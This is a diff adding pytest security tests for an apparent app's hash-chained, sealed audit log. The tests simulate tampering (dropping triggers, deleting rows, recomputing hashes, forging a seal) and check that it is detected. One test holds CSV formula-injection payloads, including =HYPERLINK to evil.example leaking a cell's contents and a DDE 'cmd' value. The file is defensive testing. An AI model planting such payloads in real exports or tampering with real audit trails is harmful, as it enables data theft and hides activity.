@@ -66,10 +66,179 @@ def test_users_sign_in_disable_and_roles(tmp_path):
     users.set_password("ana", "battery staple")
     assert users.authenticate("ana", "battery staple") is not None
     assert users.update("ana", role="knowledge").role == "knowledge"
-    with pytest.raises(KBError, match="at least 8"):
+    with pytest.raises(KBError, match="at least 12"):
         users.set_password("ana", "short")
     with pytest.raises(KBError, match="role must be one of"):
         users.add("bob", "superuser")
     with pytest.raises(KBError, match="already exists"):
         users.add("ana", "agent")
     users.close()
+
+
+# ---------------------------------------------------------------- a trail that cannot be trimmed
+
+security = pytest.mark.security
+
+
+def trail(tmp_path, events: int = 5) -> AuditLog:
+    audit = AuditLog(tmp_path / "kb" / "audit.sqlite")
+    for number in range(events):
+        audit.record(f"user{number}", "sign_in")
+    assert audit.verify() is None
+    return audit
+
+
+def bypass_triggers(audit: AuditLog) -> None:
+    """What someone with the database file (and no key) can do."""
+    audit.db.execute("DROP TRIGGER audit_no_update")
+    audit.db.execute("DROP TRIGGER audit_no_delete")
+
+
+def checks(audit: AuditLog) -> list[tuple[int, str]]:
+    return [(p.event, p.check) for p in audit.problems()]
+
+
+@security
+def test_deleting_the_last_events_is_detected(tmp_path):
+    """Attack: delete the last two events of the audit trail with a SQL tool."""
+    audit = trail(tmp_path)
+    bypass_triggers(audit)
+    audit.db.execute("DELETE FROM audit WHERE id > 3")
+    assert audit.verify() == 4
+    assert checks(audit) == [(4, "tail")]
+    assert "events 4..5 are missing" in str(audit.problems()[0])
+
+
+@security
+def test_truncating_the_tail_is_detected(tmp_path):
+    """Attack: truncate the audit trail to its first event."""
+    audit = trail(tmp_path)
+    bypass_triggers(audit)
+    audit.db.execute("DELETE FROM audit WHERE id > 1")
+    assert audit.verify() == 2
+    assert checks(audit) == [(2, "tail")]
+
+
+@security
+def test_emptying_the_table_is_detected(tmp_path):
+    """Attack: empty the audit table (DELETE FROM audit)."""
+    audit = trail(tmp_path)
+    bypass_triggers(audit)
+    audit.db.execute("DELETE FROM audit")
+    assert audit.verify() is not None
+    assert checks(audit) == [(5, "empty")]
+
+
+@security
+def test_deleting_the_audit_database_is_detected(tmp_path):
+    """Attack: delete audit.sqlite; the app starts a fresh, empty trail."""
+    audit = trail(tmp_path)
+    audit.close()
+    for path in (tmp_path / "kb").glob("audit.sqlite*"):
+        path.unlink()
+    fresh = AuditLog(tmp_path / "kb" / "audit.sqlite")
+    fresh.record("eve", "sign_in")  # the next event does not hide it
+    assert fresh.verify() is not None
+    assert checks(fresh) == [(0, "seal-missing")]
+    fresh.close()
+
+
+@security
+def test_editing_an_event_and_recomputing_the_chain_is_detected(tmp_path):
+    """Attack: edit an event, then re-compute every hash after it so the chain checks."""
+    from kb.audit import _row_hash
+
+    audit = trail(tmp_path)
+    bypass_triggers(audit)
+    audit.db.execute("UPDATE audit SET user = 'nobody' WHERE id = 2")
+    previous = audit.db.execute("SELECT hash FROM audit WHERE id = 1").fetchone()[0]
+    for row_id, at, user, action, details in audit.db.execute(
+        "SELECT id, at, user, action, details FROM audit WHERE id >= 2 ORDER BY id"
+    ).fetchall():
+        digest = _row_hash(previous, at, user, action, details)
+        audit.db.execute(
+            "UPDATE audit SET previous_hash = ?, hash = ? WHERE id = ?", (previous, digest, row_id)
+        )
+        previous = digest
+    assert audit.verify() == 5
+    assert checks(audit) == [(5, "head")]
+
+
+@security
+def test_a_seal_written_without_the_key_is_detected(tmp_path):
+    """Attack: truncate the trail and write a new seal for the shorter head without the key."""
+    import hashlib
+    import hmac
+
+    audit = trail(tmp_path)
+    bypass_triggers(audit)
+    audit.db.execute("DELETE FROM audit WHERE id > 3")
+    head = audit.db.execute("SELECT hash FROM audit WHERE id = 3").fetchone()[0]
+    guess = hmac.new(b"\0" * 32, f"seal\x1f3\x1f{head}\x1f3".encode(), hashlib.sha256)
+    audit.db.execute(
+        "UPDATE audit_seal SET head_id = 3, head_hash = ?, events = 3, mac = ?",
+        (head, guess.hexdigest()),
+    )
+    assert checks(audit) == [(3, "seal-mac")]
+
+
+def test_a_middle_deletion_names_the_event_and_the_check(tmp_path):
+    audit = trail(tmp_path)
+    bypass_triggers(audit)
+    audit.db.execute("DELETE FROM audit WHERE id = 3")
+    assert checks(audit)[0] == (4, "link")
+    assert "event 2" in audit.problems()[0].message
+
+
+def test_a_trail_from_before_sealing_is_sealed_once_when_its_key_is_made(tmp_path):
+    audit = trail(tmp_path)
+    audit.db.execute("DELETE FROM audit_seal")  # as an older version left it...
+    audit.close()
+    (tmp_path / "kb.audit-key").unlink()  # ...with no key yet
+    upgraded = AuditLog(tmp_path / "kb" / "audit.sqlite")
+    assert upgraded.verify() is None
+    upgraded.record("ana", "sign_in")
+    assert upgraded.verify() is None
+    upgraded.close()
+
+
+def test_a_person_can_reseal_after_investigating(tmp_path):
+    audit = trail(tmp_path)
+    bypass_triggers(audit)
+    audit.db.execute("DELETE FROM audit WHERE id > 3")
+    event = audit.reseal("cli", "tail lost in the 2026-11-30 disk failure; ticket SEC-42")
+    assert audit.verify() is None
+    assert "events 4..5 are missing" in event.details["problems"][0]
+
+
+@security
+def test_kb_audit_verify_says_what_is_wrong_and_fails(tmp_path, monkeypatch, capsys):
+    """Attack: truncate the trail, then run `kb audit --verify` (it said "intact", exit 0)."""
+    from kb.cli import main
+
+    monkeypatch.setenv("KB_DATA_DIR", str(tmp_path / "kb"))
+    audit = trail(tmp_path)
+    assert main(["audit", "--verify"]) == 0
+    bypass_triggers(audit)
+    audit.db.execute("DELETE FROM audit WHERE id > 2")
+    audit.close()
+    assert main(["audit", "--verify"]) == 1
+    said = capsys.readouterr().err
+    assert "event 3: [tail] events 3..5 are missing" in said
+
+
+@security
+def test_a_formula_typed_as_a_name_is_not_live_in_the_csv_export(tmp_path):
+    """Attack: type =HYPERLINK(...) as the user name at sign-in; open the CSV export in Excel."""
+    import csv
+    import io
+
+    audit = trail(tmp_path, 0)
+    for typed in ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2", "@SUM(A1)"):
+        audit.record(typed, "sign_in_failed", reason="\tcmd|' /C calc'!A0")
+    audit.record("ana", "export", file="=cmd")
+    rows = list(csv.reader(io.StringIO(events_csv(audit.events()))))[1:]
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
+    audit.close()
